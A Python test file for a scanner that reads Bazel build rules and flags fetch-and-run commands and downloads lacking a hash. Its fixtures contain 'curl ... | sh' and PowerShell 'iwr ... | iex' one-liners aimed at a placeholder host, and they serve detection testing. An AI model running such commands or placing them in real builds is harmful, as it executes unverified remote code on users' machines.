"""The commands of Bazel's rules are read, and what is downloaded without a hash is seen."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.bazel import READER


def seen(code: str) -> set[tuple[int, str]]:
    notes = Notes("BUILD.bazel", every_line=True, is_program=True)
    READER.read(notes, code.encode())
    return {(observation.line, observation.capability) for observation in notes.observations()}


@pytest.mark.parametrize(
    "code",
    [
        'genrule(\n    name = "a",\n    cmd = "curl https://kiln.example/x | sh")',
        'genrule(\n    name = "a",\n    cmd = " && ".join(["cd $(RULEDIR)", "curl https://kiln.example/x | sh"]))',
        'genrule(\n    name = "a",\n    cmd_ps = "iwr https://kiln.example/x | iex")',
        'a = "curl https://kiln.example/x"\ndef f(ctx):\n    ctx.execute(["sh", "-c", a + " | sh"])',
        'def f(ctx):\n  ctx.actions.run_shell(outputs = [],\n    command = "curl https://kiln.example/x | sh")',
    ],
)
def test_a_command_is_read(code: str) -> None:
    assert (3, "fetch_and_run") in seen(code)


def test_what_is_downloaded_without_a_hash_is_seen() -> None:
    assert seen('http_archive(name = "a", urls = ["https://kiln.example/x.zip"])') == {(1, "downloads_in_build")}
    assert not seen('http_archive(name = "a", urls = ["https://kiln.example/x.zip"], sha256 = "0123")')


@pytest.mark.parametrize(
    "code",
    [
        'genrule(name = "a", cmd = "$(location :kiln) --out $@ $< && echo $$HOME > $(RULEDIR)/a")',
        'sh_test(name = "a", srcs = ["a.sh"])',
        "this is no Starlark: curl https://kiln.example/x | sh",
    ],
)
def test_ordinary_files_show_nothing(code: str) -> None:
    assert not seen(code)


@pytest.mark.parametrize("piece", ["(", "a(cmd=", "a=1\n", "a('https://b')\n", "a=a+a\n"])
def test_odd_files_are_read(piece: str) -> None:
    assert isinstance(seen(piece * 20_000), set)
